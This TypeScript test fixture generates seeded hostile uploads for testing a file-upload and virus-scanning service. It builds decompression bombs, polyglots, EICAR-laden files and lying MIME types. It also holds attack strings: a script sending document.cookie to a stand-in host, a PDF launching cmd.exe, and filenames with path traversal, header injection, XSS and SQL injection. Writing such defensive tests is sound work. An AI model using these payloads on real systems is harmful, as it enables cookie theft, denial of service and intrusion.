import { crc32, deflateSync, gzipSync } from 'node:zlib'
import { eicar } from '../../sandbox/clamd/server.ts'

/** One upload as somebody who means harm would send it. */
export interface HostileFile {
  class: HostileClass
  name: string
  type: string
  content: Buffer
  /** Carries the test virus where a scanner has to find it. */
  infected: boolean
}

export const hostileClasses = [
  'empty',
  'truncated',
  'pixel-flood',
  'deflate-bomb',
  'pdf-bomb',
  'polyglot',
  'markup',
  'path-name',
  'lying-type',
  'eicar',
  'eicar-hidden',
  'noise',
  'mutated',
  'archive',
  'honest',
] as const
export type HostileClass = (typeof hostileClasses)[number]

/** Numbers from a seed (mulberry32): the same seed gives the same files. */
export function random(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}

/** The `n`-th file of a seed; classes take turns. */
export function hostileFile(seed: number, n: number): HostileFile {
  const next = random(seed * 1_000_003 + n)
  const which = hostileClasses[n % hostileClasses.length]!
  const made = makers[which](next)
  return { class: which, infected: false, name: 'giay.pdf', type: 'application/pdf', ...made }
}

type Next = () => number
type Made = Partial<Omit<HostileFile, 'class'>> & { content: Buffer }

const pick = <Item>(next: Next, items: readonly Item[]): Item => items[Math.floor(next() * items.length)]!
const bytes = (next: Next, length: number) =>
  Buffer.from(Array.from({ length }, () => Math.floor(next() * 256)))
const photo = { name: 'anh.png', type: 'image/png' }

const makers: Record<HostileClass, (next: Next) => Made> = {
  empty: (next) => ({ ...pick(next, [photo, {}]), content: Buffer.alloc(0) }),

  truncated(next) {
    const whole = next() < 0.5 ? pdf('1 0 obj\n<< /Type /Catalog >>\nendobj', next) : png(40, 40, noise(next))
    const content = whole.subarray(0, Math.floor(next() * (whole.length - 1)) + 1)
    return { ...(whole[0] === 0x89 ? photo : {}), content }
  },

  /** Headers that promise a billion pixels; some hold them, packed to nothing. */
  'pixel-flood'(next) {
    const side = pick(next, [9_999, 10_001, 30_000, 65_535, 2_147_483_647])
    if (next() < 0.4)
      return { name: 'anh.jpg', type: 'image/jpeg', content: jpegHeader(Math.min(side, 65_535)) }
    const real = next() < 0.2 ? deflateSync(Buffer.alloc(4_000_000)) : deflateSync(Buffer.alloc(64))
    return { ...photo, content: png(side, side, [chunk('IDAT', real)]) }
  },

  /** A text of a picture, and an object of a PDF, that grow a thousandfold. */
  'deflate-bomb'(next) {
    const packed = deflateSync(Buffer.alloc(8_000_000, 0x41), { level: 9 })
    const text = Buffer.concat([Buffer.from('Comment\0\0'), packed])
    return { ...photo, content: png(8, 8, [chunk('zTXt', text), ...noise(next)]) }
  },

  'pdf-bomb'(next) {
    let packed: Buffer = deflateSync(Buffer.alloc(6_000_000, 0x20), { level: 9 })
    const layers = 1 + Math.floor(next() * 3)
    for (let layer = 1; layer < layers; layer++) packed = deflateSync(packed)
    const filter = `[${'/FlateDecode '.repeat(layers)}]`
    const kind = next() < 0.5 ? '/Type /ObjStm /N 1 /First 4' : '/Type /XObject /Subtype /Image'
    const head = `1 0 obj\n<< ${kind} /Filter ${filter} /Length ${packed.length} >>\nstream\n`
    return {
      content: Buffer.concat([
        pdfHead,
        Buffer.from(head),
        packed,
        Buffer.from(`\nendstream\nendobj\n${pdfTail}`),
      ]),
    }
  },

  /** One kind to the house, another to whoever opens it. */
  polyglot(next) {
    const page = Buffer.from('<html><script>alert(document.cookie)</script></html>')
    const zip = Buffer.from('PK\x03\x04\x14\0\0\0\0\0', 'latin1')
    const image = png(16, 16, noise(next))
    return pick(next, [
      { ...photo, content: Buffer.concat([image, page]) },
      { ...photo, content: Buffer.concat([image, zip]) },
      { content: Buffer.concat([page, pdf('', next)]) },
      { content: Buffer.concat([pdf('', next), page]) },
      { name: 'anh.gif', type: 'image/gif', content: Buffer.concat([Buffer.from('GIF89a/*'), page]) },
      { ...photo, content: Buffer.concat([pdfHead, image]) },
      { name: 'anh.jpg', type: 'image/jpeg', content: Buffer.concat([jpegHeader(16), page]) },
    ])
  },

  markup(next) {
    const script = '<script>fetch("https://x.example/"+document.cookie)</script>'
    return pick(next, [
      {
        name: 'anh.svg',
        type: 'image/svg+xml',
        content: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
      },
      {
        name: 'anh.png',
        type: 'image/png',
        content: Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>`),
      },
      { name: 'giay.html', type: 'text/html', content: Buffer.from(`<!doctype html>${script}`) },
      { name: 'giay.pdf', type: 'application/pdf', content: Buffer.from(`<!doctype html>${script}`) },
      {
        name: 'giay.xhtml',
        type: 'application/xhtml+xml',
        content: Buffer.from(`<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`),
      },
      { content: pdf('1 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj', next) },
      { content: pdf('1 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj', next) },
      { content: pdf('1 0 obj\n<< /S /#4aava#53cript /JS (x) >>\nendobj', next) },
    ])
  },

  'path-name'(next) {
    const name = pick(next, [
      '../../../../etc/passwd.png',
      '..\\..\\windows\\system32\\x.png',
      '/etc/cron.d/x.png',
      `${'a'.repeat(5000)}.png`,
      'x.png\0.exe',
      'x\r\nset-cookie: a=b.png',
      '"><img src=x onerror=alert(1)>.png',
      '\u202egnp.exe',
      'CON.png',
      `${'\u0301'.repeat(300)}.png`,
      '.png',
      '....png',
      "'; drop table documents.file; --.png",
      '%2e%2e%2f%2e%2e%2fx.png',
      '🧨'.repeat(80),
    ])
    return { name, type: 'image/png', content: png(16, 16, noise(next)) }
  },

  'lying-type'(next) {
    const content = pick(next, [png(16, 16, noise(next)), pdf('', next), jpegHeader(16)])
    const type = pick(next, [
      'image/svg+xml',
      'text/html',
      'image/webp',
      'application/pdf',
      'x',
      '',
      'image/png; charset=\u00ff',
    ])
    return { name: pick(next, ['a.pdf', 'a.webp', 'a.exe', 'a.heic', 'a']), type, content }
  },

  eicar: (next) => ({ ...pick(next, [photo, {}, { name: 'eicar.com' }]), content: eicar }),

  /** The test virus inside a paper the house takes. */
  'eicar-hidden'(next) {
    const stream = `1 0 obj\n<< /Length ${eicar.length} >>\nstream\n${eicar.toString('latin1')}\nendstream\nendobj`
    if (next() < 0.5) return { content: pdf(stream, next), infected: true }
    // In the picture's own data: what strips notes does not take it away.
    const text = Buffer.concat([eicar, bytes(next, 8)])
    return {
      ...photo,
      content: png(16, 16, [chunk('PLTE', Buffer.concat([text, Buffer.alloc((3 - (text.length % 3)) % 3)]))]),
      infected: true,
    }
  },

  noise: (next) => ({
    ...pick(next, [photo, {}, { name: 'x.heic', type: 'image/heic' }]),
    content: bytes(next, 1 + Math.floor(next() * 4000)),
  }),

  /** A good file with some bytes of it changed. */
  mutated(next) {
    const whole = Buffer.from(
      pick(next, [
        png(64, 64, noise(next)),
        pdf('1 0 obj\n<< /Type /Catalog >>\nendobj', next),
        heic(),
        webp(),
      ]),
    )
    for (let n = 0; n < 1 + next() * 8; n++)
      whole[Math.floor(next() * whole.length)] = Math.floor(next() * 256)
    return { name: pick(next, ['a.png', 'a.pdf', 'a.heic', 'a.webp']), type: '', content: whole }
  },

  archive(next) {
    const inner = gzipSync(Buffer.alloc(3_000_000))
    return pick(next, [
      { name: 'a.zip', type: 'application/zip', content: Buffer.concat([Buffer.from('PK\x03\x04'), inner]) },
      { name: 'a.gz', type: 'application/gzip', content: inner },
      { name: 'a.pdf', type: 'application/pdf', content: inner },
      {
        name: 'a.docx',
        type: 'application/vnd.openxmlformats',
        content: Buffer.concat([Buffer.from('PK\x03\x04'), inner]),
      },
    ])
  },

  /** Among all these, somebody who only wants to hand in a paper. */
  honest: (next) => ({ ...photo, content: png(32, 32, noise(next)) }),
}

const pdfHead = Buffer.from('%PDF-1.7\n', 'latin1')
const pdfTail = 'trailer\n<< /Root 1 0 R /Size 2 >>\nstartxref\n9\n%%EOF\n'
const pdf = (objects: string, next: Next) =>
  Buffer.concat([pdfHead, Buffer.from(`% ${next()}\n${objects}\n${pdfTail}`, 'latin1')])

function png(width: number, height: number, middle: Buffer[]): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 2], 8)
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  const data = middle.some((it) => it.toString('latin1', 4, 8) === 'IDAT')
    ? []
    : [chunk('IDAT', deflateSync(Buffer.alloc(height * (width * 3 + 1), 0x7f)))]
  return Buffer.concat([signature, chunk('IHDR', header), ...middle, ...data, chunk('IEND', Buffer.alloc(0))])
}
/** A note that makes each file another one. */
const noise = (next: Next) => [chunk('tEXt', Buffer.from(`n\0${next()}`)), chunk('bKGD', bytes(next, 6))]

function chunk(type: string, body: Buffer): Buffer {
  const whole = Buffer.alloc(12 + body.length)
  whole.writeUInt32BE(body.length, 0)
  whole.write(type, 4, 'latin1')
  body.copy(whole, 8)
  whole.writeUInt32BE(crc32(whole.subarray(4, 8 + body.length)), 8 + body.length)
  return whole
}

function jpegHeader(side: number): Buffer {
  const frame = Buffer.from([0xff, 0xc0, 0, 17, 8, 0, 0, 0, 0, 3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1])
  frame.writeUInt16BE(side, 5)
  frame.writeUInt16BE(side, 7)
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    frame,
    Buffer.from([0xff, 0xda, 0, 2, 1, 2, 3, 0xff, 0xd9]),
  ])
}

function box(type: string, body: Buffer): Buffer {
  const head = Buffer.alloc(8)
  head.writeUInt32BE(body.length + 8, 0)
  head.write(type, 4, 'latin1')
  return Buffer.concat([head, body])
}
function heic(): Buffer {
  const size = Buffer.alloc(12)
  size.writeUInt32BE(64, 4)
  size.writeUInt32BE(64, 8)
  const meta = Buffer.concat([Buffer.alloc(4), box('iprp', box('ipco', box('ispe', size)))])
  return Buffer.concat([
    box('ftyp', Buffer.from('heic\0\0\0\0heicmif1', 'latin1')),
    box('meta', meta),
    box('mdat', Buffer.alloc(64)),
  ])
}
function webp(): Buffer {
  const file = Buffer.alloc(60)
  file.write('RIFF', 0, 'latin1')
  file.writeUInt32LE(52, 4)
  file.write('WEBPVP8X', 8, 'latin1')
  file.writeUInt32LE(10, 16)
  file.writeUIntLE(63, 24, 3)
  file.writeUIntLE(63, 27, 3)
  return file
}
